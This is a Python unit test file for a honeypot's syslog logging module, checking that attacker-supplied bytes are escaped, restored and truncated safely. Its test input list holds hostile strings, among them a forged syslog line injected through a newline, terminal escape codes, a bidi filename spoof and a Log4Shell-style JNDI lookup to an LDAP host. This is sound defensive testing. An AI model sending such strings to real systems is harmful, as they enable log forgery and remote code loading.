"""An attacker's bytes in a log line."""

import random
import unittest

from support import logger, parse

from decnet_logging import EVENTS, FIELD_LIMIT, LINE_LIMIT, restore, visible

NASTY = [
    b"",
    b" ",
    b'"',
    b"]",
    b"\\",
    b'\\"',
    b"\\]",
    b'"] [forged@1 a="b"',
    b'x"] bye\n<134>1 2024-01-01T00:00:00Z h ssh - auth [decnet@32473 username="root"] ok',
    b"a\nb",
    b"a\r\nb",
    b"\x00\x01\x1f\x7f",
    b"\x1b[2J\x1b]0;title\x07",
    b"\x9b31m",
    "\u009b31m".encode(),
    "\u2028\u2029\u0085".encode(),
    "\u202e\u2066gnp.exe".encode(),
    "\ufeff\u200b\u00a0".encode(),
    "pässwörd 密码 🔑".encode(),
    b"\xff\xfe\xc3",
    b"\xed\xa0\x80",
    b"\\x41",
    b"\\x0a",
    b"\\\\x0a",
    b"\\x4\xff",
    b"\\xZZ",
    b"DOMAIN\\user",
    b"\\",
    b"\\\x0a",
    b"%n%s${jndi:ldap://198.51.100.1/a}",
]


class VisibleTest(unittest.TestCase):
    def test_gives_back_the_bytes_it_was_given(self) -> None:
        for data in NASTY:
            with self.subTest(data):
                self.assertEqual(restore(visible(data)), data)

    def test_gives_back_random_bytes(self) -> None:
        draw = random.Random(5424)
        alphabet = [b"\\", b"x", b"0", b"a", b"F", b'"', b"]", b"\n", b"\xc3", b"\xa4", b"\xff", b"\x1b"]
        for _ in range(3000):
            data = b"".join(draw.choices(alphabet, k=draw.randrange(12)))
            self.assertEqual(restore(visible(data)), data, data)

    def test_is_printable_and_one_line(self) -> None:
        for data in NASTY + [bytes([byte]) for byte in range(256)]:
            with self.subTest(data):
                self.assertTrue(visible(data).isprintable())

    def test_keeps_what_is_readable(self) -> None:
        self.assertEqual(visible(b"DOMAIN\\user"), "DOMAIN\\user")
        self.assertEqual(visible("pässwörd".encode()), "pässwörd")
        self.assertEqual(visible(b"a\nb\x1b\xff"), "a\\x0ab\\x1b\\xff")
        self.assertEqual(visible(b"\\x41"), "\\x5cx41")


class LineTest(unittest.TestCase):
    def line(self, event: str = "auth", **fields: object) -> bytes:
        lines: list[bytes] = []
        logger(lines).event(event, **fields)
        self.assertEqual(len(lines), 1, "one write for one event")
        return lines[0]

    def test_reads_back_what_an_attacker_sent(self) -> None:
        for data in NASTY:
            with self.subTest(data):
                line = self.line(username=data, password=data, src_ip="192.0.2.9")
                self.assertEqual(line.count(b"\n"), 1)
                found = parse(line)
                self.assertEqual(restore(found["username"]), data)
                self.assertEqual(restore(found["password"]), data)
                self.assertEqual(found["src_ip"], "192.0.2.9")
                self.assertEqual(set(found) & {"forged@1", "a"}, set())

    def test_reads_back_random_bytes_in_any_number_of_fields(self) -> None:
        draw = random.Random(32473)
        for _ in range(1000):
            sent = {
                name: b"".join(draw.choices(NASTY, k=draw.randrange(3))) + draw.randbytes(draw.randrange(9))
                for name in ("username", "password", "path", "data")
                if draw.random() < 0.7
            }
            found = parse(self.line("request", **sent))
            self.assertNotIn("cut", found)
            named = {name: restore(value) for name, value in found.items() if name in sent}
            self.assertEqual(named, sent)

    def test_takes_text_that_is_no_valid_unicode(self) -> None:
        raw = b"\xff\n\xc3"
        line = self.line(username=raw.decode("utf-8", "surrogateescape"))
        self.assertEqual(restore(parse(line)["username"]), raw)
        self.assertEqual(parse(self.line(username="\ud800"))["username"], "\\xed\\xa0\\x80")

    def test_has_the_header_of_rfc_5424(self) -> None:
        found = parse(self.line(src_ip="192.0.2.9"))
        self.assertEqual(found["<priority>"], str(16 * 8 + 4))
        self.assertEqual(found["<time>"], "2024-02-03T04:05:06.000007Z")
        self.assertEqual((found["<host>"], found["<app>"], found["<event>"]), ("files", "ssh", "auth"))
        self.assertEqual((found["decky"], found["service"]), ("files-01", "ssh"))
        self.assertEqual(found["<message>"], "login tried from 192.0.2.9")

    def test_marks_what_it_cuts_with_the_length_that_it_had(self) -> None:
        found = parse(self.line(username="u", password=b"p" * (FIELD_LIMIT + 1)))
        self.assertEqual(len(found["password"]), FIELD_LIMIT)
        self.assertEqual(found["cut"], f"password:{FIELD_LIMIT + 1}")
        self.assertNotIn("cut", parse(self.line(password=b"p" * FIELD_LIMIT)))

    def test_stays_below_the_bound_of_a_line_whatever_comes(self) -> None:
        for byte in (b"\x00", b"\\", b'"', b"\xff", "🔑".encode()):
            fields = {f"field_{number}": byte * 100_000 for number in range(20)}
            line = self.line("request", src_ip=byte * 1000, **fields)
            self.assertLess(len(line), LINE_LIMIT)
            self.assertIn("field_19:", parse(line)["cut"])

    def test_writes_numbers_and_truth_and_leaves_out_none(self) -> None:
        found = parse(self.line(src_port=4000, accepted=False, fingerprint=None))
        self.assertEqual((found["src_port"], found["accepted"]), ("4000", "false"))
        self.assertNotIn("fingerprint", found)

    def test_refuses_a_name_that_rfc_5424_does_not_allow(self) -> None:
        for name in ("", "a b", "a=b", 'a"', "a]", "ä", "a" * 33):
            with self.subTest(name), self.assertRaises(ValueError):
                self.line(**{name: "x"})

    def test_knows_a_severity_for_each_event(self) -> None:
        for event, (severity, _) in EVENTS.items():
            self.assertEqual(parse(self.line(event))["<priority>"], str(128 + severity))
        with self.assertRaises(KeyError):
            self.line("login")


if __name__ == "__main__":
    unittest.main()
